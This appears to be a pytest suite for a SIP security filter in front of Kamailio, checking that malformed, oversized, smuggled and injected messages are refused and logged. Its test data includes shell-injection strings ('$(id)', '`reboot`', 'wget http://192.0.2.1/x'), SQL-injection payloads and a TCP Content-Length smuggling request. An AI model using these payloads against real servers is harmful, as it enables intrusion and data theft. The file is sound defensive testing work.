"""Messages that Kamailio's parser refuses in one place or another: each is recorded, none does harm.

Ordered by the hook that sees them (see docs/decision-log.md for what no hook sees).
"""

from __future__ import annotations

import subprocess
from collections.abc import Iterator

import pytest

from harness import SDP, Server, exchange, invite, peer, request, status, wait_for


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    # Each test has an address of its own, but one address may send many broken messages in a row.
    policy = (
        "[limits.malformed]\nper_minute = 0\n[limits.source_ports]\nper_minute = 0\n[limits.findings]\nper_minute = 0\n"
    )
    with Server(tmp_path_factory.mktemp("unreadable"), policy) as running:
        yield running


def without(name: str, message: bytes) -> bytes:
    """The message without the header lines of that name."""
    head, _, body = message.partition(b"\r\n\r\n")
    lines = [line for line in head.split(b"\r\n") if not line.lower().startswith(name.encode() + b":")]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def swapped(message: bytes, old: bytes, new: bytes) -> bytes:
    """The message with one text replaced, which must be there."""
    assert old in message
    return message.replace(old, new, 1)


BASE = request("OPTIONS", call_id="base", via="Via: SIP/2.0/UDP 127.0.0.1:5060;branch=z9hG4bKbase;rport")

PARSE_ERRORS = {
    "a first line without a version": swapped(BASE, b" SIP/2.0\r\n", b"\r\n"),
    "only text": b"x" * 200,
    "only NUL bytes": b"\0" * 64,
    "a broken topmost Via": swapped(BASE, b"Via: SIP/2.0/UDP 127.0.0.1:5060;", b"Via: SIP/2.0/;;;,"),
    "a topmost Via with a host that never ends": swapped(BASE, b"127.0.0.1:5060;", b"[::1;"),
    "a first header without a colon": swapped(BASE, b"\r\nVia", b"\r\nno colon in this line\r\nVia"),
    "bytes that are not UTF-8": b"\xff\xfe\x80\xff" * 20,
    "a status line with a word for a code": b"SIP/2.0 abc OK\r\n" + BASE.split(b"\r\n", 1)[1],
}


@pytest.mark.parametrize("name", PARSE_ERRORS)
def test_what_the_parser_refuses_is_recorded_and_never_answered(server: Server, name: str) -> None:
    source = f"127.1.0.{list(PARSE_ERRORS).index(name) + 1}"
    assert exchange(server, PARSE_ERRORS[name], source=source, seconds=0.3) is None
    record = server.record_from(source)
    assert record["event"]["action"] == "drop"
    assert "parse-error" in record["rule"]["id"]
    server.assert_healthy()


ODD = {
    "HTTP": b"GET / HTTP/1.0\r\nHost: example.com\r\nUser-Agent: curl/7\r\n\r\n",
    "bytes that are not UTF-8 in the method": b"\xff\xfe\x80" + BASE,
    "no Via": without("via", BASE),
    "no From": without("from", BASE),
    "no To": without("to", BASE),
    "no Call-ID": without("call-id", BASE),
    "no CSeq": without("cseq", BASE),
    "a broken To": swapped(BASE, b"To: <sip:bob@example.com>", b"To: <sip:bob@"),
    "two To": swapped(BASE, b"\r\nTo:", b"\r\nTo: <sip:x@example.com>;tag=\r\nTo:"),
    "a control byte after To": swapped(BASE, b"\r\nTo:", b"\r\nTo\x01:"),
    "a broken second Via": swapped(BASE, b"\r\nMax", b"\r\nVia: SIP/2.0/UDP\r\nMax"),
    "a later line without a colon": swapped(BASE, b"\r\nContent", b"\r\nno colon in this line\r\nContent"),
    "SIP/3.0": swapped(BASE, b" SIP/2.0\r\n", b" SIP/3.0\r\n"),
    "a CSeq that is no number": swapped(BASE, b"CSeq: 1", b"CSeq: one"),
    "a CSeq of another method": swapped(BASE, b"CSeq: 1 OPTIONS", b"CSeq: 1 INVITE"),
    "a Content-Length that is no number": swapped(BASE, b"Content-Length: 0", b"Content-Length: zero"),
    "a Content-Length of 4294967328": swapped(BASE, b"Content-Length: 0", b"Content-Length: 4294967328"),
    "two Content-Length": swapped(BASE, b"Content-Length: 0", b"Content-Length: 0\r\nContent-Length: 9"),
    "a NUL byte in a header": swapped(BASE, b"Max-Forwards: 70", b"X-Nul: a\0b\r\nNo\0colon"),
    "a space before the colon of an unknown name with a control byte": swapped(BASE, b"Max", b"X\x02 : y\r\nMax"),
}


@pytest.mark.parametrize("name", ODD)
def test_what_only_pre_routing_sees_is_refused_and_recorded(server: Server, name: str) -> None:
    source = f"127.1.1.{list(ODD).index(name) + 1}"
    answer = exchange(server, ODD[name], source=source, seconds=0.3)
    assert status(answer) in (0, 400, 403, 505), answer
    record = server.record_from(source)
    assert record["event"]["action"] in ("reject", "drop"), record
    assert record["rule"]["id"], record
    # What the log says about an answer is what was sent.
    assert record["sipsieve"].get("answer", 0) == status(answer), record
    server.assert_healthy()


def test_replies_without_mandatory_headers_are_recorded_and_crash_nothing(server: Server) -> None:
    reply = b"SIP/2.0 200 OK\r\n" + BASE.split(b"\r\n", 1)[1]
    names = ("via", "from", "to", "call-id", "cseq")
    for number, name in enumerate(names):
        source = f"127.1.2.{number + 1}"
        assert exchange(server, without(name, reply), source=source, seconds=0.2) is None
        assert "header-missing" in server.record_from(source)["rule"]["id"]
    server.assert_healthy()


def test_a_message_of_the_largest_datagram_is_decided(server: Server) -> None:
    # Kamailio 6.0 discards datagrams of more than 32,765 bytes before any script; 5.6 takes them all.
    version = subprocess.run(["kamailio", "-v"], capture_output=True, text=True, check=True).stdout
    thirds = 20_000 if " kamailio 5." in version else 10_000
    kind = ("Content-Type: application/octet-stream",)
    big = request("OPTIONS", headers=kind, body=b"\xff\x00a" * thirds, call_id="big")
    with peer("127.0.0.1", server.port, source="127.1.3.1") as sock:
        sock.send(big)
        sock.settimeout(5)
        assert status(sock.recv(65535)) == 200
    assert server.record_of("big")["sipsieve"]["bytes"] == len(big)
    hostile = request("OPTIONS", headers=("X-Fill: " + "a" * 3 * thirds, "X-End: $(reboot)"), call_id="big-hostile")
    exchange(server, hostile, source="127.1.3.2", seconds=1)
    assert server.record_of("big-hostile")["event"]["action"] in ("reject", "scrub")
    server.assert_healthy()


def test_longer_than_the_policy_allows_is_refused(tmp_path_factory: pytest.TempPathFactory) -> None:
    with Server(tmp_path_factory.mktemp("oversize"), "[detection]\nmax_bytes = 2048\n") as server:
        assert status(exchange(server, request(headers=("X: " + "a" * 3000,), call_id="long"))) == 413
        assert server.record_of("long")["rule"]["id"] == ["oversize"]
        # Also where the header section itself never ends within the limit.
        exchange(server, b"OPTIONS sip:a@b SIP/2.0\r\nX: " + b"b" * 4000, source="127.1.3.9", seconds=0.2)
        assert "oversize" in server.record_from("127.1.3.9")["rule"]["id"]
        server.assert_healthy()


@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_bytes_that_are_not_utf8_pass_in_a_name_and_are_recorded(server: Server, transport: str) -> None:
    sent = request(
        "OPTIONS",
        from_='"J\udce9r\udcf4me" <sip:j@example.com>;tag=1',
        call_id=f"latin1-{transport}",
        transport=transport.upper(),
    )
    assert b"J\xe9r\xf4me" in sent
    assert status(exchange(server, sent, source="127.1.4.1", transport=transport)) == 200
    record = server.record_of(f"latin1-{transport}")
    assert record["event"]["action"] == "allow"
    server.assert_healthy()


@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_an_attack_beside_bytes_that_are_not_utf8_is_seen(server: Server, transport: str) -> None:
    sent = invite(
        from_='"\udcff\udcfe\' or 1=1--" <sip:j@example.com>;tag=1',
        call_id=f"hidden-{transport}",
        transport=transport.upper(),
    )
    assert status(exchange(server, sent, source="127.1.4.2", transport=transport)) == 403
    record = server.record_of(f"hidden-{transport}")
    assert "sql-tautology" in record["rule"]["id"]
    assert "\\xff\\xfe" in record["sipsieve"]["excerpt"]
    server.assert_healthy()


FORMS = {
    "compact": request("OPTIONS", call_id="form-compact")
    .replace(b"\r\nFrom: ", b"\r\nf: ")
    .replace(b"\r\nTo: ", b"\r\nt: ")
    .replace(b"\r\nVia: ", b"\r\nv: ")
    .replace(b"\r\nCall-ID: ", b"\r\ni: ")
    .replace(b"\r\nContent-Length: ", b"\r\nl: "),
    "folded": request("OPTIONS", from_='"Alice"\r\n\t<sip:alice@example.com>\r\n ;tag=1', call_id="form-folded"),
    "spaced": request("OPTIONS", call_id="form-spaced").replace(b"From:", b"From \t :").replace(b"To:", b"To  :"),
    "lower": request("OPTIONS", call_id="form-lower").replace(b"From:", b"from:").replace(b"Via:", b"VIA:"),
}


@pytest.mark.parametrize("form", FORMS)
def test_legal_spellings_pass(server: Server, form: str) -> None:
    assert status(exchange(server, FORMS[form], source="127.1.5.1")) == 200
    assert server.record_of(f"form-{form}")["event"]["action"] == "allow"


@pytest.mark.parametrize("form", FORMS)
def test_an_attack_is_seen_in_every_spelling(server: Server, form: str) -> None:
    call_id = f"attack-{form}"
    sent = FORMS[form].replace(b'"Alice"', b'"x; wget http://192.0.2.1/x"').replace(b"form-", b"attack-")
    assert status(exchange(server, sent, source="127.1.5.2")) == 403
    assert "shell-chained" in server.record_of(call_id)["rule"]["id"]


@pytest.mark.parametrize(
    ("name", "header"),
    [
        ("second-via", "Via: SIP/2.0/UDP 127.0.0.9;branch=z9hG4bK1;x=$(id)"),
        ("via-list", 'Via: SIP/2.0/UDP 127.0.0.9;branch=z9hG4bK1, SIP/2.0/UDP 127.0.0.8;x="`reboot`"'),
        ("second-contact", 'Contact: <sip:a@127.0.0.1>\r\nContact: "$(id)" <sip:b@127.0.0.1>'),
        ("contact-list", "m: <sip:a@127.0.0.1>, <sip:$(id)@127.0.0.1>"),
        ("subject", "s: ' union select password from subscriber--"),
        ("unknown", "X-Anything: ;wget http://192.0.2.1/x"),
        (
            "authorization",
            'Authorization: Digest username="x\' or 1=1--", realm="r", nonce="n", uri="sip:a", response="00"',
        ),
        ("pai", 'P-Asserted-Identity: "$(id)" <sip:a@example.com>'),
    ],
)
def test_an_attack_is_seen_in_every_instance(server: Server, name: str, header: str) -> None:
    exchange(server, request("OPTIONS", call_id=f"in-{name}", headers=(header,)), source="127.1.5.3", seconds=1)
    record = server.record_of(f"in-{name}")
    assert record["event"]["action"] in ("reject", "scrub"), record
    assert record["rule"]["id"]


def test_two_requests_in_one_datagram_are_one_message(server: Server) -> None:
    first = request("OPTIONS", call_id="outer")
    assert status(exchange(server, first + request("OPTIONS", call_id="inner"), source="127.1.6.1")) == 200
    assert server.record_of("outer")["event"]["action"] == "allow"


def test_smuggling_with_two_lengths_over_tcp_is_refused(server: Server) -> None:
    inner = request("REGISTER", call_id="smuggled", transport="TCP")
    sent = request(
        "OPTIONS",
        call_id="smuggler",
        headers=("Content-Length: 0",),
        length=str(len(inner)),
        body=inner,
        transport="TCP",
    )
    # The first value ends the outer request; the rest comes as a request of its own, and is judged as one.
    exchange(server, sent, source="127.1.6.2", transport="tcp")
    assert server.record_of("smuggled")["event"]["action"] == "allow"
    assert server.record_of("smuggler")["event"]["action"] == "drop"
    assert "content-length-conflict" in server.record_of("smuggler")["rule"]["id"]
    server.assert_healthy()


def test_many_broken_frames_over_tcp_leave_the_server_whole(server: Server) -> None:
    for data in (
        b"\r\n\r\n" * 10,
        b"A" * 5000,
        b"INVITE sip:a SIP/2.0\r\nContent-Length: 99999999999\r\n\r\n",
        b"\0" * 100,
    ):
        exchange(server, data, source="127.1.6.3", transport="tcp", seconds=0.2)
    server.assert_healthy()
    assert status(exchange(server, invite(transport="TCP", body=SDP), transport="tcp", source="127.1.6.4")) == 200


def test_requests_behind_each_other_on_one_connection_are_each_decided(server: Server) -> None:
    calls = [f"pipeline-{n}" for n in range(5)]
    with peer("127.0.0.1", server.port, source="127.1.6.5", transport="tcp") as sock:
        sock.sendall(b"".join(request("OPTIONS", call_id=c, transport="TCP") for c in calls))
        received = b""

        def all_there() -> bool:
            nonlocal received
            received += sock.recv(65535)
            return received.count(b"SIP/2.0 200 ") == 5

        wait_for(all_there, "five answers")
    for call in calls:
        assert server.record_of(call)["network"]["transport"] == "tcp"
